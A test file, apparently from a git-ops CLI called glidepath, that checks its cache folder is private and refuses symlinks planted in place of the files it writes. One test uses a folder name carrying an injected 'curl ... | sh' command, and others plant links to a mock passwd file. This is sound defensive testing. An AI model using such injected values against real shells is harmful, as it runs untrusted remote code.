/**
 * The folder of caches is glidepath's alone (issue 42, finding 3): made 0700, refused when another user owns it or
 * others may write into it, before any git runs; the files glidepath writes there are new files, never written
 * through a planted link. Ownership is tried as root, with a folder chowned to nobody (uid 65534).
 */
import {
  chmodSync,
  chownSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ownCacheFolder, ownInnerFolder, writeOwnFile } from '../../src/gitops/cache-folder';
import { openGitopsRepo } from '../../src/gitops/gitops-repo';
import { parseRemote } from '../../src/gitops/remote';
import { tempDir } from './helpers/git-repos';

const AS_ROOT = process.getuid?.() === 0;
const NOBODY = 65534;

describe('the folder of caches', () => {
  it('is refused when it is a symbolic link, which its owner could point elsewhere after the check', () => {
    const parent = tempDir('cache-link');
    mkdirSync(join(parent, 'elsewhere'), { mode: 0o700 });
    symlinkSync(join(parent, 'elsewhere'), join(parent, 'cache'));
    expect(() => ownCacheFolder(join(parent, 'cache'))).toThrow(/is a symbolic link/);
    expect(readdirSync(join(parent, 'elsewhere'))).toEqual([]);
  });

  it('is made 0700 when missing, its parents too', () => {
    const root = join(tempDir('cache'), 'a', '.glidepath-cache');
    ownCacheFolder(root);
    expect(statSync(root).mode & 0o777).toBe(0o700);
    expect(statSync(join(root, '..')).mode & 0o777).toBe(0o700);
  });

  it.skipIf(!AS_ROOT)("another user's folder is refused before any git runs, with the fix", async () => {
    const root = tempDir('cache');
    chownSync(root, NOBODY, NOBODY);
    const remote = parseRemote(join(tempDir('remote'), 'cluster-gitops.git'));
    await expect(openGitopsRepo({ remote, cacheRoot: root }, ['main'], 'glidepath/')).rejects.toMatchObject({
      name: 'GitopsError',
      kind: 'foreign-checkout',
      message:
        `the cache folder ${root} belongs to another user (uid ${NOBODY}, this run is uid 0): that user could plant ` +
        'links where glidepath writes, and git refuses a repository of another owner',
      fix:
        'pass --cache-dir with a folder of your own (glidepath makes it, mode 0700), or, if the folder is yours ' +
        `to take: chown -R 0 ${root} && chmod 700 ${root}`,
    });
    // No cache, no lock, no .gitignore: nothing was made in it.
    expect(readdirSync(root)).toEqual([]);
    expect(statSync(root).uid).toBe(NOBODY);
  });

  it('a folder its group or every user may write into is refused, and left as it is', () => {
    const root = tempDir('cache');
    chmodSync(root, 0o775);
    expect(() => ownCacheFolder(root)).toThrow(
      `the cache folder ${root} may be written by its group (mode 0775): another user could plant links where ` +
        'glidepath writes',
    );
    chmodSync(root, 0o1777);
    expect(() => ownCacheFolder(root)).toThrow(/may be written by every user \(mode 0777\)/);
    expect(statSync(root).mode & 0o7777).toBe(0o1777);
  });

  it('a fix names the folder as one shell word', () => {
    const root = join(tempDir('cache'), 'ci; curl -s x | sh #');
    mkdirSync(root, { mode: 0o777 });
    chmodSync(root, 0o777);
    expect(() => ownCacheFolder(root)).toThrow(
      expect.objectContaining({ fix: expect.stringContaining(`chmod 700 '${root}', or pass --cache-dir`) }),
    );
  });
});

describe('the files glidepath writes there', () => {
  it('a planted link in place of the file is refused, and its target is untouched', () => {
    const dir = tempDir('bodies');
    const victim = join(tempDir('victim'), 'passwd');
    writeFileSync(victim, 'root:x:0:0\n');
    symlinkSync(victim, join(dir, 'prod.md'));
    expect(() => writeOwnFile(join(dir, 'prod.md'), '# body\n')).toThrow(
      `${join(dir, 'prod.md')} is a symbolic link, which glidepath did not write: nothing was written through it`,
    );
    expect(readFileSync(victim, 'utf8')).toBe('root:x:0:0\n');
    expect(readdirSync(dir)).toEqual(['prod.md']);
  });

  it('links planted for the next temporary names change nothing: each is a new file of a name nobody guesses', () => {
    const dir = tempDir('bodies');
    const victim = join(tempDir('victim'), 'passwd');
    writeFileSync(victim, 'root:x:0:0\n');
    for (let pid = process.pid; pid < process.pid + 20; pid++) symlinkSync(victim, join(dir, `prod.md.${pid}.tmp`));
    writeOwnFile(join(dir, 'prod.md'), '# body\n');
    expect(readFileSync(join(dir, 'prod.md'), 'utf8')).toBe('# body\n');
    expect(statSync(join(dir, 'prod.md')).mode & 0o777).toBe(0o600);
    expect(readFileSync(victim, 'utf8')).toBe('root:x:0:0\n');
  });

  it('a planted link in place of the bodies folder is refused: nothing is written through it', () => {
    const root = tempDir('cache');
    const elsewhere = tempDir('elsewhere');
    symlinkSync(elsewhere, join(root, 'bodies'));
    expect(() => ownInnerFolder(join(root, 'bodies'))).toThrow(
      `${join(root, 'bodies')} is a symbolic link, not the folder glidepath writes in: nothing was written through it`,
    );
    expect(readdirSync(elsewhere)).toEqual([]);
  });

  it.skipIf(!AS_ROOT)("another user's bodies folder is refused", () => {
    const root = tempDir('cache');
    mkdirSync(join(root, 'bodies'));
    chownSync(join(root, 'bodies'), NOBODY, NOBODY);
    expect(() => ownInnerFolder(join(root, 'bodies'))).toThrow(/belongs to another user \(uid 65534/);
  });
});
